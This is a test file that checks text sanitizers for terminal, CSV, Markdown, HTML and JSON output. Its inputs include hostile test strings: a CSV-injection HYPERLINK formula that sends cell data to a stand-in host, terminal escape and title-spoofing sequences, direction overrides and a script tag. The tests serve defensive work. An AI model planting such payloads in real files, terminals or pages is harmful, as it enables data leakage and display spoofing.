import { describe, expect, it } from 'vitest';
import { csvCell, display, htmlText, jsonText, markdownCell } from '../../src/ui/cells.js';

// Stored text made safe per format (issue 9, items 3 and 4). The inputs are what an older file or
// a hand-edited row can hold; the renderers pass every stored value through these.

describe('display: the terminal', () => {
  it.each([
    ['an escape sequence', 'a\u001b[2Jb', 'line', 'a\uFFFD[2Jb'],
    ['a window-title escape and bell', '\u001b]0;pwned\u0007', 'line', '\uFFFD]0;pwned\uFFFD'],
    ['a one-byte CSI, DEL and NUL', '\u009b31m\u007f\u0000', 'line', '\uFFFD31m\uFFFD\uFFFD'],
    ['direction overrides, isolates and marks', '\u202ea\u202c\u2066b\u2069\u200e\u200f\u061c', 'line', '\uFFFDa\uFFFD\uFFFDb\uFFFD\uFFFD\uFFFD\uFFFD'],
    ['a lone CR in one line', 'Approved\rRejected', 'line', 'Approved↵Rejected'],
    ['CRLF and LF in one line', 'a\r\nb\nc', 'line', 'a↵b↵c'],
    ['a tab in one line', 'a\tb', 'line', 'a b'],
    ['a lone CR in a table cell', 'Approved\rRejected', 'cell', 'Approved\nRejected'],
    ['a tab in a table cell', 'a\tb\nc', 'cell', 'a b\nc'],
    ['a description with CRLF and tabs', 'a\r\n\tb\u2028c', 'block', 'a\n\tb\nc'],
    ['clean text, Chinese and joiners', '快递 👩\u200d💻 ok', 'line', '快递 👩\u200d💻 ok'],
  ] as const)('%s (%s)', (_what, input, layout, shown) => {
    expect(display(input, layout)).toBe(shown);
  });
});

describe('csvCell: OWASP CSV injection', () => {
  it.each([
    ['a hyperlink formula', '=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['a plus formula', '+SUM(1+1)', "'+SUM(1+1)"],
    ['a minus formula', '-2+3', "'-2+3"],
    ['an at formula', '@SUM(1)', "'@SUM(1)"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading CR', '\r=1+1', `"'\n=1+1"`],
    ['spaces before a formula', '  =1+1', "'  =1+1"],
    ['a formula after a semicolon, for semicolon locales', 'a;=1+1', '"a;=1+1"'],
    ['an escape sequence', 'a\u001b[2J', 'a\uFFFD[2J'],
    ['a direction override', 'a\u202eb', 'a\uFFFDb'],
    ['a negative number', '-5', '-5'],
    ['a negative amount with thousands', '-1,234.50', '"-1,234.50"'],
    ['a negative percentage', '-12.5%', '-12.5%'],
    ['an ordinary unit name', '质量部', '质量部'],
    ['a dash meaning none', '—', '—'],
  ])('%s', (_what, input, cell) => {
    expect(csvCell(input)).toBe(cell);
  });

  it('numbers stay numbers, negative ones included', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12.5)).toBe('12.5');
  });
});

describe('markdownCell', () => {
  it.each([
    ['a script tag', '<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['a pipe that would end the cell', 'Sales | Returns', 'Sales \\| Returns'],
    ['a backslash before a pipe', 'a\\|b', 'a\\\\\\|b'],
    ['backticks, emphasis and a link', '`x` *y* _z_ [l](http://e) ~s~', '\\`x\\` \\*y\\* \\_z\\_ \\[l\\](http://e) \\~s\\~'],
    ['an ampersand', 'R&D', 'R&amp;D'],
    ['a heading marker', '# Top', '\\# Top'],
    ['a list marker', '- item', '\\- item'],
    ['an ordered list marker', '1. first', '1\\. first'],
    ['line breaks and a lone CR', 'a\nb\r\nc\rd', 'a b c d'],
    ['an escape sequence and an override', '\u001b[2J\u202e', '\uFFFD\\[2J\uFFFD'],
    ['a negative number', '-5', '-5'],
    ['a percentage', '45.0%', '45.0%'],
  ])('%s', (_what, input, cell) => {
    expect(markdownCell(input)).toBe(cell);
  });
});

describe('htmlText', () => {
  it('escapes text and attribute contexts, and shows controls and overrides as U+FFFD', () => {
    expect(htmlText(`<a href="x" onclick='y'>&</a>`)).toBe('&lt;a href=&quot;x&quot; onclick=&#39;y&#39;&gt;&amp;&lt;/a&gt;');
    expect(htmlText('a\u202eb\u001b[2J\u0000')).toBe('a\uFFFDb\uFFFD[2J\uFFFD');
  });
});

describe('jsonText: exact data, nothing raw a terminal would act on', () => {
  it('escapes C1 controls, line separators and direction overrides; the parsed value is unchanged', () => {
    const value = { s: 'a\u009b31m\u202eb\u2028c\u001b', n: -1 };
    const text = jsonText(value, 2);
    expect(text).not.toMatch(/[\u001b\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
    expect(text).toContain('\\u009b');
    expect(text).toContain('\\u202e');
    expect(JSON.parse(text)).toEqual(value);
  });
});
